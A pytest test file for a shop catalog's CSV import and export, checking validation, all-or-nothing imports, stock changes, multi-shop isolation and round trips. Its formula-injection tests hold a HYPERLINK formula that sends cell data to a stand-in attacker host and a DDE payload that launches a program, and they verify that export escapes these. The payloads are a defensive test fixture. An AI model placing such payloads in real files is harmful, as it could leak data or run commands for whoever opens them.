"""CSV import and export: parsing, validation by row and column, all-or-nothing, round trips."""

from __future__ import annotations

import csv
import io

import pytest
import sqlalchemy as sa

from mall import csvsafe
from mall.catalog import csv_io
from mall.catalog.models import (
    Category,
    Product,
    ProductKind,
    ProductStatus,
    StockMovement,
    StockReason,
    Variant,
)
from mall.catalog.services import ProductInput, VariantInput, create_product
from mall.catalog.stock import movements_total
from mall.extensions import db
from tenants.context import tenant_context


def csv_bytes(*rows: dict[str, str], columns: tuple[str, ...] = csv_io.COLUMNS) -> bytes:
    """A CSV file with ``columns`` as header and ``rows`` (missing cells empty)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(columns)
    for row in rows:
        writer.writerow([row.get(name, "") for name in columns])
    return buffer.getvalue().encode()


def shirt_rows(**changes: str) -> list[dict[str, str]]:
    """A shirt in two sizes (rows 2 and 3 of a file)."""
    common = {
        "handle": "linen-shirt",
        "title": "Linen shirt",
        "description": 'Cool, "breathable" linen; washes well.',
        "status": "published",
        "category": "clothing",
        "tags": "summer;linen",
        "weight_grams": "250",
        "option1_name": "Size",
    }
    small = {"option1_value": "S", "sku": "LS-S", "price": "12.50", "stock": "5"}
    medium = {"option1_value": "M", "sku": "LS-M", "price": "13.00", "compare_at_price": "15"}
    # Product columns change on both rows, variant columns on the first.
    shared = {k: v for k, v in changes.items() if k in csv_io.PRODUCT_COLUMNS}
    return [{**common, **small, **changes}, {**common, **medium, "stock": "2", **shared}]


def ebook_row(**changes: str) -> dict[str, str]:
    row = {
        "handle": "field-guide",
        "title": "Field guide — Ça va",
        "kind": "digital",
        "sku": "FG-1",
        "price": "4",
        "track_stock": "no",
        "allow_backorder": "yes",
        "stock": "-3",
    }
    return {**row, **changes}


def notebook_row() -> dict[str, str]:
    """A product whose description spans lines (CRLF and LF) and has trailing blanks."""
    description = "Dotted pages.\r\n\r\n- A5\n- 120 g/m², “acid-free”  \n"
    return {"handle": "notebook", "title": "Notebook", "description": description, "sku": "NB-1",
            "price": "7.5", "tax_class": "reduced", "low_stock_threshold": "4"}  # fmt: skip


def good_file() -> bytes:
    return csv_bytes(*shirt_rows(), ebook_row(), notebook_row())


def run(data: bytes) -> tuple[list[csv_io.RowError], csv_io.ImportResult | None]:
    """Parse, validate and (when there is no error) apply ``data`` in the shop in context."""
    parsed = csv_io.parse_csv(data)
    errors = csv_io.validate(parsed)
    if errors:
        return errors, None
    result = csv_io.apply(parsed)
    db.session.commit()
    return [], result


def export() -> bytes:
    buffer = io.StringIO()
    csv_io.export_csv(buffer)
    return buffer.getvalue().encode()


def products() -> list[Product]:
    return list(db.session.scalars(sa.select(Product).order_by(Product.slug)))


def where(errors: list[csv_io.RowError]) -> set[tuple[int, str]]:
    return {(e.row, e.column) for e in errors}


def ensure_clothing() -> Category:
    """The mall category ``clothing`` (made once per test)."""
    category = db.session.scalar(sa.select(Category).where(Category.slug == "clothing"))
    if category is None:
        category = Category(name="Clothing", slug="clothing")
        db.session.add(category)
        db.session.commit()
    return category


@pytest.fixture
def clothing(app_ctx) -> Category:
    return ensure_clothing()


@pytest.fixture
def in_a(shop_a, clothing):
    with tenant_context(shop_a):
        yield shop_a


# ---------------------------------------------------------------- a good file


def test_a_good_file_imports_products_variants_and_stock(in_a, clothing):
    errors, result = run(good_file())
    assert errors == []
    assert (result.created, result.updated, result.unchanged) == (3, 0, 0)
    assert result.stock_movements == 3
    guide, shirt, notebook = products()
    assert shirt.title == "Linen shirt"
    assert shirt.description_md == 'Cool, "breathable" linen; washes well.'
    assert notebook.description_md == notebook_row()["description"]
    assert "<li>A5</li>" in notebook.description_html
    assert (notebook.tax_class, notebook.variants[0].low_stock_threshold) == ("reduced", 4)
    assert (shirt.status, shirt.kind, shirt.weight_grams) == (
        ProductStatus.PUBLISHED,
        ProductKind.PHYSICAL,
        250,
    )
    assert shirt.category_id == clothing.id
    assert shirt.tags == ["linen", "summer"]
    assert shirt.options == [{"name": "Size", "values": ["S", "M"]}]
    small, medium = shirt.variants
    assert (small.sku, small.price, small.option_values, small.stock_quantity) == (
        "LS-S",
        1250,
        {"Size": "S"},
        5,
    )
    assert (medium.price, medium.compare_at_price, medium.stock_quantity) == (1300, 1500, 2)
    assert (shirt.price_min, shirt.price_max, shirt.in_stock) == (1250, 1300, True)
    assert guide.kind is ProductKind.DIGITAL and guide.title == "Field guide — Ça va"
    (ebook,) = guide.variants
    assert (ebook.track_stock, ebook.allow_backorder, ebook.stock_quantity) == (False, True, -3)


def test_a_bom_and_blank_lines_are_fine(in_a):
    data = b"\xef\xbb\xbf" + csv_bytes(ebook_row()) + b",,,\r\n\r\n"
    errors, result = run(data)
    assert errors == [] and result.created == 1


def test_a_good_file_round_trips_byte_for_byte_and_changes_nothing(in_a):
    run(good_file())
    first = export()
    stamps = {p.slug: p.updated_at for p in products()}
    movements = db.session.scalar(sa.select(sa.func.count()).select_from(StockMovement))
    errors, result = run(first)
    assert errors == []
    assert (result.created, result.updated, result.unchanged, result.stock_movements) == (
        0,
        0,
        3,
        0,
    )
    assert export() == first
    db.session.expire_all()
    assert {p.slug: p.updated_at for p in products()} == stamps
    assert db.session.scalar(sa.select(sa.func.count()).select_from(StockMovement)) == movements


def test_the_export_is_ordered_by_handle_then_variant_position(in_a):
    run(csv_bytes(*shirt_rows(), ebook_row()))
    lines = export().decode().splitlines()
    assert lines[0] == ",".join(csv_io.COLUMNS)
    rows = list(csv.DictReader(io.StringIO(export().decode(), newline="")))
    assert [(r["handle"], r["sku"]) for r in rows] == [
        ("field-guide", "FG-1"),
        ("linen-shirt", "LS-S"),
        ("linen-shirt", "LS-M"),
    ]
    assert rows[1]["price"] == "12.50" and rows[2]["compare_at_price"] == "15.00"
    assert rows[0]["track_stock"] == "no" and rows[0]["stock"] == "-3"


def test_a_product_made_in_the_back_office_round_trips(in_a):
    create_product(
        ProductInput(
            title="Mug",
            options=[{"name": "Colour", "values": ["Red", "Blue"]}],
            variants=[
                VariantInput(sku="MUG-B", price=900, option_values={"Colour": "Blue"}),
                VariantInput(sku="MUG-R", price=900, option_values={"Colour": "Red"}),
            ],
        )
    )
    db.session.commit()
    first = export()
    errors, result = run(first)
    assert errors == [] and result.unchanged == 1 and result.updated == 0
    assert products()[0].options == [{"name": "Colour", "values": ["Red", "Blue"]}]
    assert export() == first


# ---------------------------------------------------------------- updates and stock


def test_products_are_updated_by_handle(in_a):
    first = shirt_rows()
    first[1]["stock"] = "0"  # a variant holding stock is not removed by an import
    run(csv_bytes(*first))
    rows = shirt_rows(price="11.00", title="Linen shirt II")
    rows[1]["title"] = ""  # later rows may leave product columns empty
    errors, result = run(csv_bytes(rows[0]))  # the M variant is left out: removed
    assert errors == []
    assert (result.created, result.updated) == (0, 1)
    (shirt,) = products()
    assert shirt.title == "Linen shirt II"
    assert [(v.sku, v.price) for v in shirt.variants] == [("LS-S", 1100)]
    assert db.session.scalar(sa.select(Variant).where(Variant.sku == "LS-M")) is None


def test_columns_left_out_keep_their_values(in_a):
    run(good_file())
    columns = ("handle", "title", "sku", "price")
    data = csv_bytes(
        {"handle": "linen-shirt", "title": "Linen shirt", "sku": "LS-S", "price": "9.99"},
        {"handle": "linen-shirt", "title": "Linen shirt", "sku": "LS-M", "price": "13.00"},
        columns=columns,
    )
    errors, result = run(data)
    assert errors == [] and result.updated == 1 and result.stock_movements == 0
    shirt = products()[1]
    assert shirt.description_md.startswith("Cool") and shirt.tags == ["linen", "summer"]
    assert shirt.options == [{"name": "Size", "values": ["S", "M"]}]
    assert [(v.sku, v.price, v.stock_quantity) for v in shirt.variants] == [
        ("LS-S", 999, 5),
        ("LS-M", 1300, 2),
    ]


def test_a_sku_may_move_to_a_new_option_value(in_a):
    run(good_file())
    rows = shirt_rows()
    rows[1]["option1_value"] = "L"
    errors, result = run(csv_bytes(*rows))
    assert errors == [] and result.updated == 1
    assert [v.option_values["Size"] for v in products()[1].variants] == ["S", "L"]


def test_the_stock_column_records_adjustments_to_the_target(in_a):
    run(good_file())
    errors, result = run(csv_bytes(*shirt_rows(stock="3")))
    assert errors == [] and result.stock_movements == 1 and result.updated == 1
    small = db.session.scalar(sa.select(Variant).where(Variant.sku == "LS-S"))
    assert small.stock_quantity == 3 == movements_total(small)
    deltas = db.session.execute(
        sa.select(StockMovement.delta, StockMovement.reason)
        .where(StockMovement.variant_id == small.id)
        .order_by(StockMovement.created_at)
    ).all()
    assert deltas == [(5, StockReason.ADJUSTMENT), (-2, StockReason.ADJUSTMENT)]
    # An empty stock cell leaves the quantity alone.
    errors, result = run(csv_bytes(*shirt_rows(stock="")))
    assert result.stock_movements == 0 and result.unchanged == 1
    db.session.refresh(small)
    assert small.stock_quantity == 3


def test_stock_below_zero_needs_backorders_or_no_tracking(in_a):
    backordered = ebook_row(track_stock="yes", allow_backorder="yes", stock="-3")
    errors, result = run(csv_bytes(backordered))
    assert errors == [] and result.stock_movements == 1
    errors, _ = run(csv_bytes(ebook_row(track_stock="yes", allow_backorder="no", stock="-4")))
    assert [(e.row, e.column, e.message) for e in errors] == [
        (2, "stock", "This variant tracks stock without backorders: enter 0 or more.")
    ]


# ---------------------------------------------------------------- one bad row: nothing imported


def bad(rows: list[dict[str, str]], **changes: str) -> list[dict[str, str]]:
    """``rows`` with the last one changed."""
    return [*rows[:-1], {**rows[-1], **changes}]


BAD_FILES = {
    "bad price": (csv_bytes(*bad(shirt_rows(), price="12,5x")), (3, "price")),
    "price missing": (csv_bytes(*bad(shirt_rows(), price="")), (3, "price")),
    "too many decimals": (csv_bytes(*bad(shirt_rows(), price="1.005")), (3, "price")),
    "compare at below price": (
        csv_bytes(*bad(shirt_rows(), compare_at_price="1")),
        (3, "compare_at_price"),
    ),
    "duplicate sku in the file": (csv_bytes(*shirt_rows(), ebook_row(sku="ls-m")), (4, "sku")),
    "duplicate sku in a product": (csv_bytes(*bad(shirt_rows(), sku="LS-S")), (3, "sku")),
    "bad sku": (csv_bytes(*bad(shirt_rows(), sku="no spaces")), (3, "sku")),
    "unknown category": (csv_bytes(*shirt_rows(category="toys")), (2, "category")),
    "option value missing": (csv_bytes(*bad(shirt_rows(), option1_value="")), (3, "option1_value")),
    "same option twice": (csv_bytes(*bad(shirt_rows(), option1_value="S")), (3, "option1_value")),
    "value of an unnamed option": (csv_bytes(ebook_row(option2_value="Red")), (2, "option2_name")),
    "two variants without options": (
        csv_bytes(ebook_row(), ebook_row(sku="FG-2")),
        (3, "option1_value"),
    ),
    "product column differs": (csv_bytes(*bad(shirt_rows(), title="Other")), (2, "title")),
    "bad handle": (csv_bytes(ebook_row(handle="Field Guide")), (2, "handle")),
    "handle missing": (csv_bytes(ebook_row(handle="")), (2, "handle")),
    "title missing": (csv_bytes(ebook_row(title="")), (2, "title")),
    "bad kind": (csv_bytes(ebook_row(kind="service")), (2, "kind")),
    "bad yes/no": (csv_bytes(ebook_row(track_stock="maybe")), (2, "track_stock")),
    "bad stock": (csv_bytes(ebook_row(stock="3.5")), (2, "stock")),
    "tracked stock below zero": (csv_bytes(*bad(shirt_rows(), stock="-1")), (3, "stock")),
    "negative weight": (csv_bytes(*shirt_rows(weight_grams="-1")), (2, "weight_grams")),
    "unknown column": (
        csv_bytes(ebook_row(), columns=(*csv_io.COLUMNS, "colour")),
        (1, "colour"),
    ),
    "missing column": (
        csv_bytes(ebook_row(), columns=tuple(c for c in csv_io.COLUMNS if c != "price")),
        (1, "price"),
    ),
    "not utf-8": (csv_bytes(ebook_row()) + "x,Caf\xe9\r\n".encode("latin-1"), (3, "")),
    "empty file": (b"", (1, "")),
    "only a byte-order mark": (b"\xef\xbb\xbf\r\n", (1, "")),
    "a NUL byte": (csv_bytes(ebook_row()) + b"a,\x00\r\n", (3, "")),
    "header only": (csv_bytes(), (1, "")),
    "too many cells": (csv_bytes(ebook_row()) + b"a,b" + b",x" * 30 + b"\r\n", (3, "")),
}


@pytest.mark.parametrize("data, expected", BAD_FILES.values(), ids=BAD_FILES.keys())
def test_a_file_with_one_bad_row_imports_nothing(in_a, data, expected):
    errors, result = run(data)
    assert result is None
    assert expected in where(errors), errors
    assert products() == []
    assert db.session.scalar(sa.select(sa.func.count()).select_from(StockMovement)) == 0


def test_a_sku_of_another_product_is_refused(in_a):
    run(csv_bytes(ebook_row()))
    errors, _ = run(csv_bytes(*bad(shirt_rows(), sku="FG-1")))
    assert where(errors) == {(3, "sku")}
    assert "used by another product" in errors[0].message
    assert [p.slug for p in products()] == ["field-guide"]


def test_every_problem_is_reported_in_file_order(in_a):
    rows = [*bad(shirt_rows(), price="x"), ebook_row(kind="service", handle="g")]
    errors, _ = run(csv_bytes(*rows))
    assert [(e.row, e.column) for e in errors] == [(3, "price"), (4, "kind")]
    assert str(errors[0]).startswith("row 3, column price: ")


def test_rows_are_line_numbers_even_with_multi_line_cells(in_a):
    rows = [notebook_row(), ebook_row(handle="b", sku="B", price="?")]
    errors, _ = run(csv_bytes(*rows))
    assert where(errors) == {(7, "price")}


def test_the_same_sku_and_handle_in_another_shop_are_fine(in_a, shop_b):
    with tenant_context(shop_b):
        run(csv_bytes(ebook_row(title="B's guide")))
    errors, result = run(csv_bytes(ebook_row()))
    assert errors == [] and result.created == 1
    with tenant_context(shop_b):
        (theirs,) = products()
        assert theirs.title == "B's guide"
        assert theirs.variants[0].stock_quantity == -3


# ---------------------------------------------------------------- formula injection (issue 8.6)

FORMULA = '=HYPERLINK("https://evil.example/?"&A1, "Open")'


def test_cells_that_would_run_as_formulas_are_quoted_on_export(in_a):
    rows = [
        ebook_row(title=FORMULA, description="- one\n- two", tags="@risky;fine", stock="-3"),
        ebook_row(handle="plus", sku="P-1", title="+1 offer", description="\tindented"),
        ebook_row(handle="ret", sku="R-1", title="Ret", description="\rcr", tags="''=quoted"),
        ebook_row(handle="minus", sku="M-1", title="-1", description="-2+3+cmd|' /C calc'!A0"),
    ]
    errors, _ = run(csv_bytes(*rows))
    assert errors == []
    data = export()
    exported = csv.DictReader(io.StringIO(data.decode(), newline=""))
    by_handle = {row["handle"]: row for row in exported}
    guide = by_handle["field-guide"]
    assert guide["title"] == "'" + FORMULA
    assert (guide["description"], guide["tags"]) == ("'- one\n- two", "'@risky;fine")
    assert (guide["stock"], guide["price"]) == ("-3", "4.00")  # numbers stay numbers
    plus, ret = by_handle["plus"], by_handle["ret"]
    assert (plus["title"], plus["description"]) == ("'+1 offer", "'\tindented")
    assert (ret["description"], ret["tags"]) == ("'\rcr", "''=quoted")
    assert by_handle["minus"]["title"] == "-1"  # a plain number runs nothing
    assert by_handle["minus"]["description"] == "'-2+3+cmd|' /C calc'!A0"
    for row in csv.reader(io.StringIO(data.decode(), newline="")):  # as a spreadsheet reads it
        for cell in row:
            assert not cell or cell[0] not in "=+@\t\r", cell
            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit(), cell

    # ... and read back as typed: export -> import -> export is byte-identical.
    again, result = run(data)
    assert again == [] and result.unchanged == 4 and result.updated == 0
    assert export() == data
    titles = {p.slug: (p.title, p.description_md, p.tags) for p in products()}
    assert titles["field-guide"] == (FORMULA, "- one\n- two", ["@risky", "fine"])
    assert titles["ret"][1:] == ("\rcr", ["'=quoted"])


def test_a_quoted_cell_from_a_spreadsheet_is_read_without_its_quote(in_a):
    errors, _ = run(csv_bytes(ebook_row(title="'=1+1", description="'- a list")))
    assert errors == []
    (guide,) = products()
    assert (guide.title, guide.description_md) == ("=1+1", "- a list")


@pytest.mark.parametrize(
    "text",
    ["", "plain", "=1", "'=1", "''=1", "'", "'plain", "-", "-5", "-5.50", "-5e3", "+5", "@", "\t",
     "\r\n", "'\t", "5-", "=", "'''", "-0.5.5", "--5", "١٢", "\uff1d1"],
)  # fmt: skip
def test_escaping_is_undone_exactly(text):
    escaped = csvsafe.escape_cell(text)
    assert csvsafe.unescape_cell(escaped) == text
    assert not escaped or escaped[0] not in "=+@\t\r"
    assert not escaped.startswith("-") or escaped in ("-5", "-5.50")
